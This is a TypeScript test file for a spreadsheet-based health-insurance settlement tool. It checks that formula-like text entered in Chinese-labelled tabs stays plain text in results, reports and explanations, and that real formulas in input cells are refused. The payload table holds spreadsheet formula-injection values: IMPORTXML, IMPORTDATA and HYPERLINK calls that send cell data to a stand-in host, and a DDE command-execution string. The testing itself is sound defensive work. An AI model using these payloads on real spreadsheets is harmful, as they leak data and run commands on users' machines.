import type { sheets_v4 } from 'googleapis/build/src/apis/sheets/index.js';
import { expect, test } from 'vitest';
import { makeFile, paste } from '../../../desk/person.ts';
import { SERVICE_ACCOUNT } from '../../../desk/stack.ts';
import { AREA, type Bureau, CLERK, MONTH, openBureau, REVIEWER } from '../runs/bureau.ts';
import { twoConsortia } from '../runs/county.ts';
import { type Meaning, renamed } from './renamed.ts';

/**
 * What a spreadsheet, or a program that reads one, might take for a formula or a command. Texts that begin with an
 * equals sign never get as far as this: see the second test.
 */
const BEGINNINGS: Readonly<Record<Meaning, string>> = {
  'area name': '+IMPORTXML("http://x.cn/"&A1,"//a")',
  'parameter basis': '@HYPERLINK("http://x.cn","看")',
  consortium: '@SUM(1)',
  'consortium name': '+IMPORTRANGE("x","A1")',
  institution: '-1+',
  'institution name': '\t=IMPORTDATA("http://x.cn")',
  group: '+1+',
  'group name': '\r=1+1',
  case: '@cmd|’/c calc’!A0',
  person: '＠SUM(1)',
  item: '＋1+1',
  document: '－1+1',
  'budget document': "'=1+1",
};

const dangerous = () =>
  renamed(
    twoConsortia().add('清算調整', '居民,H1,獎補,100.00,文一'),
    (meaning, text) => `${BEGINNINGS[meaning]}${text}`,
  );

type Cell = sheets_v4.Schema$CellData;

interface Contents {
  readonly cells: readonly Cell[];
  readonly texts: ReadonlySet<string>;
}

const CELLS = 'sheets(properties(title),data(rowData(values(userEnteredValue,hyperlink,note))))';

/** The cells of tabs, all of them unless some are named. */
async function contents({ person }: Bureau, fileId: string, ...names: string[]): Promise<Contents> {
  const { data } = await person(CLERK).sheets.spreadsheets.get({
    spreadsheetId: fileId,
    fields: CELLS,
  });
  const tabs = data.sheets!.filter(
    ({ properties }) => names.length === 0 || names.includes(properties!.title!),
  );
  if (names.length > 0) expect(tabs).toHaveLength(names.length);
  const cells = tabs.flatMap(
    (tab) => tab.data?.flatMap(({ rowData = [] }) => rowData.flatMap(({ values = [] }) => values)) ?? [],
  );
  return { cells, texts: new Set(cells.map((cell) => cell.userEnteredValue?.stringValue ?? '')) };
}

const RESULTS = ['點值', '機構結算', '醫共體結算', '病組分析', '數據檢查', '參數與依據'];

const formulas = (cells: readonly Cell[]): readonly Cell[] =>
  cells.filter((cell) => cell.userEnteredValue?.formulaValue != null || cell.hyperlink != null);

/** Texts that stand in a tab, alone or within another. */
const shown = (texts: ReadonlySet<string>, meanings: readonly Meaning[]): readonly Meaning[] =>
  meanings.filter((meaning) => [...texts].some((text) => text.includes(BEGINNINGS[meaning].trim())));

test('a text that looks like a formula stays a text, from every column to every tab', async () => {
  const bureau = await openBureau();
  const clerk = bureau.person(CLERK);
  const { bureauFile, reportFiles } = bureau;
  for (const [tab, rows] of dangerous().tabs()) {
    await clerk.sheets.spreadsheets.values.clear({ spreadsheetId: bureauFile, range: tab });
    await paste(clerk, bureauFile, `${tab}!A1`, rows, 'texts');
  }
  const mark = BEGINNINGS.consortium;
  const files = { [`${mark}M1`]: reportFiles.M1, [`${mark}M2`]: reportFiles.M2 };
  const name = '=IMPORTXML("http://x.cn/"&A1,"//a")';
  const setup = { area: AREA, name, bureauFile, reportFiles: files };
  expect((await bureau.call('setup', CLERK, setup)).status).toBe(200);

  const checked = await bureau.press('check', CLERK);
  expect(checked.summary).toEqual(['阻斷 0 項，警告 0 項，提示 0 項']);
  for (const period of [MONTH, '2025']) {
    const { runId } = await bureau.press('settle', CLERK, { period });
    const results = await contents(bureau, bureauFile, ...RESULTS);
    expect(formulas(results.cells)).toEqual([]);
    const everywhere: Meaning[] = [
      'area name',
      'consortium',
      'consortium name',
      'institution',
      'institution name',
    ];
    expect(shown(results.texts, everywhere)).toEqual(everywhere);

    expect((await bureau.press('close', REVIEWER, { period, runId })).state).toBe('done');
    expect((await bureau.press('publish', REVIEWER, { period })).state).toBe('done');
    for (const file of Object.values(reportFiles)) {
      const report = await contents(bureau, file);
      expect(formulas(report.cells)).toEqual([]);
      expect(shown(report.texts, everywhere)).toEqual(everywhere);
    }
  }
  const paid = await contents(bureau, bureauFile, '月度預付');
  expect(formulas(paid.cells)).toEqual([]);
  expect(paid.texts).toContain(`${BEGINNINGS.institution}H1`);
  const all = await contents(bureau, bureauFile);
  expect(formulas(all.cells)).toEqual([]);
  const inResults = await contents(bureau, bureauFile, ...RESULTS);
  const meanings = Object.keys(BEGINNINGS) as Meaning[];
  const kept = meanings.filter((meaning) => meaning !== 'case' && meaning !== 'person');
  expect(shown(inResults.texts, meanings)).toEqual(kept);
});

test('nor does one come to life in what is tried out, compared, or given to an institution', async () => {
  const text = '+IMPORTXML("http://x.cn/"&A1,"//a")';
  const county = twoConsortia().add('測算提案', '提案名稱,類別,對象,機構或等級,險種,新值,說明');
  const bureau = await openBureau({ county });
  const clerk = bureau.person(CLERK);
  const { bureauFile } = bureau;
  await paste(clerk, bureauFile, '機構!B2', [[text]], 'texts');
  await paste(clerk, bureauFile, '測算提案!A2', [[text, '基準點數', 'GA', '', '', '150', text]], 'texts');
  await bureau.closeMonth();
  await bureau.press('settle', CLERK, { period: MONTH });
  expect((await bureau.press('whatif', CLERK, { period: MONTH })).state).toBe('done');
  const runs = { period: MONTH, first: '', second: '' };
  expect((await bureau.press('contrast', CLERK, runs)).state).toBe('done');
  expect((await bureau.press('forecast', CLERK, { period: MONTH })).state).toBe('done');
  const written = await contents(bureau, bureauFile, '測算比較', '測算概要', '結算對比', '年度預測');
  expect(formulas(written.cells)).toEqual([]);
  expect(written.texts).toContain(text);
  for (const action of ['dispute', 'pack']) {
    const file = await makeFile(clerk, '機構文件', { [SERVICE_ACCOUNT]: 'writer' });
    const run = await bureau.press(action, CLERK, { period: MONTH, institution: 'H1', file });
    expect(run.state).toBe('done');
    const own = await contents(bureau, file);
    expect(formulas(own.cells)).toEqual([]);
    expect(own.texts).toContain(text);
  }
});

test('an explanation tells such texts as they are, as JSON, and writes nothing', async () => {
  const bureau = await openBureau({ county: dangerous() });
  const { runId } = await bureau.press('settle', CLERK, { period: MONTH });
  const institution = `${BEGINNINGS.institution}H1`;
  const before = bureau.state();
  const whats = [
    { institution, amount: 'due', fund: '居民' },
    { consortium: `${BEGINNINGS.consortium}M1`, fund: '居民' },
    { case: `${BEGINNINGS.case}C01` },
    { cell: { tab: '機構結算', row: 6, column: 6 } },
    { cell: { tab: '=1+1', row: 1, column: 1 } },
  ];
  for (const what of whats) {
    const { status, type, text } = await bureau.call('explain', CLERK, { area: AREA, run: runId, what });
    const known = !('cell' in what) || what.cell.tab === '機構結算';
    expect([what, status]).toEqual([what, known ? 200 : 404]);
    expect(type).toMatch(/^application\/(problem\+)?json/);
    if (known) expect(text).toContain(JSON.stringify(institution).slice(1, -1));
  }
  expect(bureau.state()).toBe(before);
});

/** The first cell below the header of every column of texts. */
const TEXT_CELLS = [
  ...['A2', 'B2', 'C2'].map((cell) => `參數!${cell}`),
  ...['A2', 'B2', 'C2'].map((cell) => `醫共體!${cell}`),
  ...['A2', 'B2', 'D2'].map((cell) => `機構!${cell}`),
  ...['A2', 'B2'].map((cell) => `病組!${cell}`),
  ...['A2', 'B2'].map((cell) => `差異係數!${cell}`),
  ...['A2', 'B2', 'C2', 'H2'].map((cell) => `病例!${cell}`),
  ...['A2', 'D2'].map((cell) => `特病單議!${cell}`),
  ...['B2', 'D2'].map((cell) => `預算!${cell}`),
  ...['B2', 'C2', 'E2'].map((cell) => `清算調整!${cell}`),
];

async function typeFormula({ person, bureauFile }: Bureau, formulaValue: string): Promise<void> {
  const { sheets } = person(CLERK);
  const { data } = await sheets.spreadsheets.get({ spreadsheetId: bureauFile });
  const requests = TEXT_CELLS.map((cell): sheets_v4.Schema$Request => {
    const [tab = '', place = ''] = cell.split('!');
    const sheet = data.sheets!.find(({ properties }) => properties!.title === tab)!;
    const columnIndex = place.charCodeAt(0) - 'A'.charCodeAt(0);
    return {
      updateCells: {
        start: { sheetId: sheet.properties!.sheetId!, rowIndex: 1, columnIndex },
        rows: [{ values: [{ userEnteredValue: { formulaValue } }] }],
        fields: 'userEnteredValue',
      },
    };
  });
  await sheets.spreadsheets.batchUpdate({ spreadsheetId: bureauFile, requestBody: { requests } });
}

test('a formula in any of them is refused, and told as the text it is', async () => {
  const bureau = await openBureau();
  const formula = '=IMPORTXML("http://x.cn/"&A1,"//a")';
  await typeFormula(bureau, formula);
  const refused = await bureau.press('settle', CLERK, { period: MONTH });
  expect(refused.state).toBe('refused');

  const checked = await bureau.press('check', CLERK);
  const told = checked.findings
    .filter(({ code }) => code === 'CELL_FORMULA')
    .map(({ where: { tab, column, row } }) => `${tab}!${column}${row}`);
  expect([...new Set(told)].sort()).toEqual([...TEXT_CELLS].sort());
  const findings = await contents(bureau, bureau.bureauFile, '數據檢查');
  expect(formulas(findings.cells)).toEqual([]);
  const { cells } = await contents(bureau, bureau.bureauFile);
  expect(formulas(cells)).toHaveLength(TEXT_CELLS.length);
  expect(cells.filter(({ note }) => note != null).length).toBeGreaterThanOrEqual(TEXT_CELLS.length);
});

test('a text that looks like a formula stays one in what is told of it', async () => {
  const bureau = await openBureau();
  const texts = ['=1+1', '＝1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1'];
  const rows = texts.map((text, index) => [`X${index}`, 'H1', `Q${index}`, '居民', '本地', text]);
  await paste(bureau.person(CLERK), bureau.bureauFile, '病例!A16', rows, 'texts');
  const { findings } = await bureau.press('check', CLERK);
  const messages = findings.map(({ message }) => message);
  for (const text of texts) expect(messages.some((message) => message.includes(text.trim()))).toBe(true);
  const { cells } = await contents(bureau, bureau.bureauFile);
  expect(formulas(cells)).toEqual([]);
});
